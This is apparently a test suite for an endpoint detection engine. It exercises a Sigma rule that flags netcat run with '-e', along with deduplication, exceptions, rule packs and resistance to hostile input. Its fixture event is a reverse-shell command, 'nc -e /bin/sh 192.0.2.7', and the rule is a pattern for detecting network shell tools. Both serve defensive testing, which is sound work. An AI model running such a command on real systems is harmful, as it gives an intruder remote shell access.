import { describe, expect, test } from 'vitest';
import type { RuleException } from '@wardgrid/wire';
import { DeviceFinding } from '@wardgrid/wire';
import { DetectionError } from './errors.ts';
import { buildPack, loadPack } from './pack.ts';
import { engineOf, feed, readText, rulesOf } from './testdata/stream.ts';

const NETCAT = `
title: Netcat
id: netcat
status: stable
author: Somebody
level: high
tags: [attack.t1059.004, attack.execution]
remedy: Look at its connections.
logsource: { product: linux, category: process_creation }
detection:
  image: { Image|endswith: /nc }
  option: { CommandLine|contains: ' -e ' }
  condition: image and option
`;
const RUN = { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 192.0.2.7' };

/** An exception for events that fit a selection. */
function except(given: Partial<RuleException>): RuleException {
  return {
    id: '01890000-0000-7000-8000-000000000001',
    ruleId: null,
    selection: { User: 'backup' },
    reason: 'known',
    expiresAt: null,
    ...given,
  };
}

describe('a finding', () => {
  test('tells the rule, what matched, the event and its processes, as the wire wants it', () => {
    const engine = engineOf(NETCAT);
    const shell = { Image: '/bin/bash', 'process.pid': 7, User: 'eve' };
    const [finding] = feed(engine, [shell, { ...RUN, 'process.parent.pid': 7 }]);
    const { isReportOnly, isRepeat, ...told } = finding ?? {};
    expect(DeviceFinding.parse({ ...told, actions: [] })).toMatchObject({
      rule: 'netcat',
      title: 'Netcat',
      engine: 'sigma',
      severity: 'high',
      confidence: 90,
      techniques: ['T1059.004'],
      author: 'Somebody',
      remedy: 'Look at its connections.',
      subject: '/usr/bin/nc',
      count: 1,
      matches: [
        { selection: 'image', field: 'process.executable', value: '/usr/bin/nc' },
        { selection: 'option', field: 'process.command_line', value: RUN.CommandLine },
      ],
      event: { class: 'process', fields: { 'process.parent.executable': '/bin/bash' } },
      processes: [{ executable: '/usr/bin/nc', user: 'eve' }, { executable: '/bin/bash' }],
    });
    expect({ isReportOnly, isRepeat }).toEqual({ isReportOnly: false, isRepeat: false });
    expect(finding?.contentDigest).toBe(buildPack(readText(NETCAT).rules).digest);
  });

  test('about the same subject is one finding with a count', () => {
    const engine = engineOf(NETCAT);
    const findings = feed(engine, [RUN, RUN, RUN, { ...RUN, at: '2m' }]);
    expect(findings.map(({ id, count, isRepeat }) => [id, count, isRepeat])).toEqual([
      [findings[0]?.id, 1, false],
      [findings[0]?.id, 4, true],
    ]);
    const other = feed(engine, [{ ...RUN, Image: '/opt/nc', at: '3m' }]);
    expect(other.map(({ count }) => count)).toEqual([1]);
    expect(other[0]?.id).not.toBe(findings[0]?.id);
  });

  test('that was held back comes out with time', () => {
    const engine = engineOf(NETCAT);
    const [first] = feed(engine, [RUN, RUN]);
    expect(engine.tick((first?.lastSeenAt ?? 0) + 1_000)).toEqual([]);
    const due = engine.tick((first?.lastSeenAt ?? 0) + 61_000);
    expect(due.map(({ id, count }) => [id, count])).toEqual([[first?.id, 2]]);
    expect(engine.tick((first?.lastSeenAt ?? 0) + 200_000)).toEqual([]);
  });

  test('is told again although the clock was set forward and back', () => {
    const engine = engineOf(NETCAT);
    feed(engine, [{ ...RUN, at: '20d' }]);
    const findings = feed(engine, [
      { ...RUN, at: '1m' },
      { ...RUN, at: '5m' },
    ]);
    expect(findings.map(({ count }) => count)).toEqual([1, 2]);
  });

  test('of a rule that floods is withheld, and the flood is a finding about the rule', () => {
    const engine = engineOf(NETCAT);
    const flood = { ...RUN, Image: '/tmp/{n}/nc', repeat: 500, every: '10ms' };
    const findings = feed(engine, [flood]);
    expect(findings).toHaveLength(101);
    expect(findings.at(-1)).toMatchObject({
      rule: 'flood:netcat',
      severity: 'low',
      subject: 'netcat',
      isReportOnly: true,
    });
    expect(engine.health().rules[0]).toMatchObject({ state: 'flooding', matched: 500 });
    expect(engine.health().findings.withheld).toBe(400);
    const later = feed(engine, [{ ...RUN, Image: '/later/nc', at: '2h' }]);
    expect(rulesOf(later)).toEqual(['netcat']);
  });
});

describe('switches', () => {
  test('off: the rule says nothing; report: nothing acts on it', () => {
    const off = engineOf(NETCAT, { switches: [{ ruleId: 'netcat', setting: 'off' }] });
    expect(feed(off, [RUN])).toEqual([]);
    expect(off.health().rules[0]?.state).toBe('off');
    const report = engineOf(NETCAT, { switches: [{ ruleId: 'netcat', setting: 'report' }] });
    expect(feed(report, [RUN])).toMatchObject([{ isReportOnly: true }]);
  });

  test('change while the engine runs', () => {
    const engine = engineOf(NETCAT);
    engine.configure({ switches: [{ ruleId: 'netcat', setting: 'off' }], exceptions: [] });
    expect(feed(engine, [RUN])).toEqual([]);
    engine.configure({ switches: [], exceptions: [] });
    expect(feed(engine, [RUN])).toHaveLength(1);
  });

  test('a rule may ask to be reported only', () => {
    expect(feed(engineOf(`${NETCAT}report: true\n`), [RUN])).toMatchObject([
      { isReportOnly: true },
    ]);
  });
});

describe('exceptions', () => {
  const backup = { ...RUN, User: 'backup' };

  test('leave out what fits them, of one rule or of all, and are counted', () => {
    const all = engineOf(NETCAT, { exceptions: [except({})] });
    expect(feed(all, [backup])).toEqual([]);
    expect(feed(all, [{ ...RUN, User: 'eve' }])).toHaveLength(1);
    expect(all.health().rules[0]).toMatchObject({ matched: 2, excepted: 1 });
    const other = engineOf(NETCAT, { exceptions: [except({ ruleId: 'another' })] });
    expect(feed(other, [backup])).toHaveLength(1);
    const own = engineOf(NETCAT, { exceptions: [except({ ruleId: 'netcat' })] });
    expect(feed(own, [backup])).toEqual([]);
  });

  test('take modifiers and lists; every key must fit', () => {
    const selection = { 'Image|endswith': ['/nc', '/ncat'], 'CommandLine|contains': '192.0.2.' };
    const engine = engineOf(NETCAT, { exceptions: [except({ selection })] });
    expect(feed(engine, [RUN])).toEqual([]);
    expect(feed(engine, [{ ...RUN, CommandLine: 'nc -e x 198.51.100.1' }])).toHaveLength(1);
  });

  test('may name fields as audit rules do', () => {
    const selection = { exe: '/usr/bin/nc', a1: '-e' };
    const engine = engineOf(NETCAT, { exceptions: [except({ selection })] });
    expect(feed(engine, [RUN])).toEqual([]);
    expect(feed(engine, [{ ...RUN, CommandLine: 'nc x -e y' }])).toHaveLength(1);
  });

  test('end when they expire', () => {
    const expiresAt = 1_700_000_060_000;
    const engine = engineOf(NETCAT, { exceptions: [except({ expiresAt })] });
    expect(feed(engine, [backup])).toEqual([]);
    expect(feed(engine, [{ ...backup, at: '61s' }])).toHaveLength(1);
  });

  test.each([
    [{}],
    [{ 'Image|roughly': 'x' }],
    [{ Nowhere: 'x' }],
    [{ 'CommandLine|re': '(a' }],
    [{ 'CommandLine|re': '(?=a)' }],
  ])('%j leaves nothing out and is told', (selection) => {
    const engine = engineOf(NETCAT, { exceptions: [except({ selection })] });
    expect(feed(engine, [backup])).toHaveLength(1);
    expect(engine.health().unusableExceptions).toHaveLength(1);
  });
});

describe('filters', () => {
  const filter = (rules: string, product = 'linux') => `${NETCAT}
---
title: Ours
id: filter
logsource: { product: ${product}, category: process_creation }
filter:
  rules: ${rules}
  selection: { User|startswith: back }
  condition: selection
`;

  test('leave out what fits them of the rules they name', () => {
    const backup = { ...RUN, User: 'backup' };
    expect(feed(engineOf(filter('[netcat]')), [backup])).toEqual([]);
    expect(feed(engineOf(filter('[any]')), [backup])).toEqual([]);
    expect(feed(engineOf(filter('[any]')), [{ ...RUN, User: 'eve' }])).toHaveLength(1);
    expect(feed(engineOf(filter('[netcat]', 'windows')), [backup])).toHaveLength(1);
  });

  test('that name no rule are told', () => {
    const { issues } = readText(filter('[nobody]'));
    expect(issues.map(({ code }) => code)).toEqual(['reference-unknown']);
  });
});

describe('health', () => {
  test('counts what was asked, matched and could not be decided', () => {
    const engine = engineOf(NETCAT);
    feed(engine, [
      RUN,
      { Image: '/usr/bin/ls' },
      { Image: '/usr/bin/nc', missing: ['process.command_line'] },
    ]);
    expect(engine.health().rules[0]).toMatchObject({ evaluated: 2, matched: 1, notEvaluable: 1 });
    expect(engine.health().engines).toMatchObject([
      { name: 'sigma', state: 'on', rules: 1, matched: 1, notEvaluable: 1 },
      { name: 'behaviour', state: 'off', rules: 0 },
      { name: 'anomaly', reason: 'learns what is ordinary on this device' },
    ]);
  });

  test('tells rules that can never match here, and why', () => {
    const text = `${NETCAT}
---
title: Registry
id: registry
logsource: { product: windows, category: registry_set }
detection: { s: { TargetObject: x }, condition: s }
---
title: Original
id: original
logsource: { category: process_creation }
detection: { s: { OriginalFileName: x, Image: y }, condition: s }
`;
    const engine = engineOf(text, { platform: null });
    expect(engine.health().rules.map(({ ruleId, state }) => [ruleId, state])).toEqual([
      ['netcat', 'on'],
      ['original', 'impossible'],
      ['registry', 'no-events'],
    ]);
    const linux = engineOf(text)
      .health()
      .rules.map(({ ruleId }) => ruleId);
    expect(linux).toEqual(['netcat', 'original']);
  });

  test('measures rules with the clock it is given', () => {
    let time = 0;
    const engine = engineOf(NETCAT, { microseconds: () => (time += 5) });
    feed(engine, [{ ...RUN, repeat: 640 }]);
    expect(engine.health().rules[0]?.microseconds).toBe(640 * 5);
  });
});

describe('the process table', () => {
  test('completes what an event does not tell of its parent and ancestors', () => {
    const text = `
title: Below the server
id: below
level: high
logsource: { product: linux, category: process_creation }
detection:
  s: { ParentImage|endswith: /sh, process.ancestors|endswith: /nginx }
  condition: s
`;
    const tree = [
      { Image: '/usr/sbin/nginx', 'process.pid': 10 },
      { Image: '/bin/sh', 'process.pid': 11, 'process.parent.pid': 10 },
      { Image: '/usr/bin/id', 'process.pid': 12, 'process.parent.pid': 11 },
    ];
    expect(feed(engineOf(text), tree)).toHaveLength(1);
    expect(feed(engineOf(text), tree.slice(1))).toEqual([]);
  });

  test('knows the process of a file event, also when its fields were missing', () => {
    const text = `
title: Written by curl
id: written
level: low
logsource: { product: linux, category: file_event }
detection: { s: { Image|endswith: /curl, TargetFilename|startswith: /etc/ }, condition: s }
`;
    const write = {
      class: 'file',
      action: 'create',
      'file.path': '/etc/x',
      'process.pid': 10,
      missing: ['process.executable'],
    };
    const engine = engineOf(text);
    expect(feed(engine, [write])).toEqual([]);
    expect(engine.health().rules[0]?.notEvaluable).toBe(1);
    expect(feed(engine, [{ Image: '/usr/bin/curl', 'process.pid': 10 }, write])).toHaveLength(1);
  });

  test('is bounded, and a circle of parents ends', () => {
    const engine = engineOf(NETCAT);
    feed(engine, [{ Image: '/bin/x', 'process.pid': '{n}', repeat: 20_000 }]);
    feed(engine, [{ Image: '/bin/y', 'process.pid': '2{n}0000', repeat: 3_000 }]);
    const { processes, evicted } = engine.health().processes;
    expect(processes).toBeLessThanOrEqual(20_000);
    expect(evicted).toBeGreaterThan(0);
    const circle = [
      { Image: '/a', 'process.entity_id': 'a', 'process.parent.entity_id': 'b' },
      { ...RUN, 'process.entity_id': 'b', 'process.parent.entity_id': 'a' },
    ];
    expect(feed(engine, circle)[0]?.processes).toHaveLength(2);
  });
});

describe('a pack', () => {
  test('is the same bytes for the same rules in any order', () => {
    const other = NETCAT.replace('id: netcat', 'id: other').replace('title: Netcat', 'title: B');
    const one = buildPack(readText(`${NETCAT}\n---\n${other}`).rules);
    const two = buildPack(readText(`${other}\n---\n${NETCAT}`).rules);
    expect(one).toEqual(two);
    expect(loadPack(one.text).digest).toBe(one.digest);
  });

  test.each([
    ['nothing', ''],
    ['no JSON', '{'],
    ['another format', '{"format":99,"rules":[]}'],
    ['an unknown key', '{"format":1,"rules":[],"more":1}'],
    ['a rule that does not fit', '{"format":1,"rules":[{"id":"x"}]}'],
  ])('of %s is refused', (_, text) => {
    expect(() => loadPack(text)).toThrow(DetectionError);
  });

  test('nested too deeply is refused, not run', () => {
    const depth = 20_000;
    const when = `${'{"kind":"not","of":'.repeat(depth)}{"kind":"unknown"}${'}'.repeat(depth)}`;
    const text = buildPack(readText(NETCAT).rules).text.replace(
      /"when":\{.*?\}\]\}/,
      `"when":${when}`,
    );
    expect(() => loadPack(text)).toThrow(DetectionError);
  });

  test('with an expression that is refused here says that it does not know', () => {
    const text = NETCAT.replace("CommandLine|contains: ' -e '", "CommandLine|re: 'abc'");
    const pack = loadPack(buildPack(readText(text).rules).text.replace('abc', '(?=a)'));
    const engine = engineOf(NETCAT, { packs: [pack] });
    expect(feed(engine, [RUN])).toEqual([]);
    expect(engine.health().rules[0]?.notEvaluable).toBe(1);
  });

  test('carries what a rule looks for, whatever it is', () => {
    const text = NETCAT.replace("' -e '", String.raw`"\ud83d\0\u202e"`).replace(
      'title: Netcat',
      String.raw`title: "Net\ud83dcat"`,
    );
    const [finding] = feed(engineOf(text), [{ Image: '/nc', CommandLine: 'a\ud83d\0\u202eb' }]);
    expect(finding?.title.isWellFormed()).toBe(true);
  });

  test('of two with one rule the first counts', () => {
    const { rules } = readText(NETCAT);
    const [rule] = rules;
    const louder = rule ? [{ ...rule, severity: 'critical' as const }] : [];
    const packs = [loadPack(buildPack(rules).text), loadPack(buildPack(louder).text)];
    expect(feed(engineOf(NETCAT, { packs }), [RUN])).toMatchObject([{ severity: 'high' }]);
  });
});

describe('a state of before', () => {
  test.each([
    '',
    'null',
    '{',
    '[]',
    '{"format":2}',
    '{"format":1,"anomalies":7,"machines":{"netcat":[1]}}',
  ])('%j is left aside', (snapshot) => {
    expect(feed(engineOf(NETCAT, { snapshot }), [RUN])).toHaveLength(1);
  });
});

describe('what is kept', () => {
  test('of hostile findings and processes is cut; what is told first is whole', () => {
    const engine = engineOf(NETCAT);
    const long = `nc -e ${'a'.repeat(32_000)}`;
    const hostile = { Image: '/bin/nc', CommandLine: long };
    const [first, second] = feed(engine, [hostile, { ...hostile, at: '2m' }]);
    expect(first?.event?.fields['process.command_line']).toBe(long);
    expect(String(second?.event?.fields['process.command_line']).length).toBe(1_024);
    expect(first?.processes[0]?.commandLine.length).toBe(2_048);
  });
});

describe('hostile events', () => {
  const long = 'a'.repeat(32_768);
  test.each([
    ['a huge command line', { Image: '/nc', CommandLine: `${long.slice(4)} -e ` }],
    [
      'many arguments',
      { Image: '/nc', 'process.args': Array.from({ length: 1_024 }, () => ' -e ') },
    ],
    ['lone surrogates', { Image: '/\ud800/nc', CommandLine: '\udc00 -e \ud800' }],
    [
      'control and direction characters',
      { Image: '/\n\u202e\u0000/nc', CommandLine: 'x -e \u0007' },
    ],
    ['prototype names', { Image: '/nc', CommandLine: '__proto__ -e constructor' }],
  ])('%s are matched, and the finding fits the wire', (_, event) => {
    const [finding] = feed(engineOf(NETCAT), [event]);
    const { isReportOnly: _only, isRepeat: _repeat, ...told } = finding ?? {};
    expect(DeviceFinding.safeParse({ ...told, actions: [] }).error).toBeUndefined();
  });

  test('all costly questions about one event have one budget', () => {
    const rule = (at: number) => `title: R${at}
id: r${at}
level: low
logsource: { product: linux, category: process_creation }
detection:
  s: { process.args|re: '(?:a|b)*a(?:a|b){${600 + at}}c' }
  condition: s
`;
    const engine = engineOf(Array.from({ length: 40 }, (_, at) => rule(at)).join('---\n'));
    const noise = (seed: number) =>
      Array.from({ length: 8_000 }, (_, at) => 'ab'[(at * 7 + (at >> 3) + seed) % 2]).join('') +
      'c';
    const args = Array.from({ length: 200 }, (_, at) => noise(at));
    const startedAt = performance.now();
    feed(engine, [{ Image: '/x', CommandLine: 'x', 'process.args': args }]);
    // Forty expressions on two hundred texts with a budget each would take over ten seconds.
    expect(performance.now() - startedAt).toBeLessThan(3_000);
    expect(engine.health().rules.some(({ notEvaluable }) => notEvaluable > 0)).toBe(true);
  });

  test('a thousand wildcards on the longest text stay within their budget', () => {
    const text = NETCAT.replace("' -e '", `'${'a*'.repeat(1_000)}b'`);
    const engine = engineOf(text);
    const startedAt = performance.now();
    expect(feed(engine, [{ Image: '/nc', CommandLine: long, repeat: 20 }])).toEqual([]);
    // Tells work in proportion from work that explodes.
    expect(performance.now() - startedAt).toBeLessThan(5_000);
  });
});
